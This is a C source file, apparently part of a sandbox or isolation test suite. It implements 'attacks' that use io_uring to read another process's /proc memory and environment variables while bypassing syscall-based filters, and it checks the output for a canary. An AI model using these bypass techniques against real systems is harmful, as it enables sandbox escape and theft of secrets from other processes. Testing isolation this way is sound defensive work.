/* SPDX-License-Identifier: Apache-2.0 */
/* By io_uring(7), which opens files without a system call that opens files. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

#include "attack.h"
#include "ring.h"

/* linux/io_uring.h of Linux 6.8 */
#define OP_FIXED_FD_INSTALL 54

static long read_by_ring(const struct prey *prey, const char *name, unsigned long offset)
{
	struct io_uring_sqe entry = { .opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .open_flags = O_RDONLY };
	struct ring ring;
	char path[64];
	int length;

	snprintf(path, sizeof(path), "/proc/%d/%s", prey->pid, name);
	entry.addr = (unsigned long)path;
	if (set_up_ring(&ring, 0))
		return -1;
	entry.fd = have_done(&ring, &entry);
	if (entry.fd < 0)
		return -1;
	entry.opcode = IORING_OP_READ;
	entry.open_flags = 0;
	entry.addr = (unsigned long)loot;
	entry.len = PAGE_BYTES;
	entry.off = offset;
	length = have_done(&ring, &entry);
	close_again(entry.fd);
	close_again(ring.fd);
	return length < 0 ? (errno == EIO ? 0 : -1) : canary_bytes(loot, length);
}

static int open_memory_into_slot(struct ring *ring, const struct prey *prey)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/mem", prey->pid);
	return set_up_ring(ring, 0) ? -1 : open_into_slot(ring, path);
}

static long memory_by_slot(const struct prey *prey)
{
	struct io_uring_sqe entry = {
		.opcode = IORING_OP_READ,
		.flags = IOSQE_FIXED_FILE,
		.addr = (unsigned long)loot,
		.len = PAGE_BYTES,
		.off = prey->address,
	};
	struct ring ring;

	if (open_memory_into_slot(&ring, prey) < 0)
		return -1;
	return answer_of(&ring, have_done(&ring, &entry));
}

/* And from there into a descriptor. */
static long memory_by_installed_slot(const struct prey *prey)
{
	struct io_uring_sqe entry = { .opcode = OP_FIXED_FD_INSTALL, .flags = IOSQE_FIXED_FILE };
	struct ring ring;
	int fd;

	if (open_memory_into_slot(&ring, prey) < 0)
		return -1;
	fd = have_done(&ring, &entry);
	return fd < 0 ? -1 : answer_of(&ring, pread(fd, loot, PAGE_BYTES, prey->address));
}

static long memory(const struct prey *prey)
{
	return read_by_ring(prey, "mem", prey->address);
}

static long environment(const struct prey *prey)
{
	return read_by_ring(prey, "environ", 0);
}

const struct attack ring_attacks[] = {
	{ "io-uring-mem", NULL, memory },
	{ "io-uring-mem-slot", NULL, memory_by_slot },
	{ "io-uring-mem-installed", NULL, memory_by_installed_slot },
	{ "io-uring-environ", NULL, environment },
	{ 0 },
};
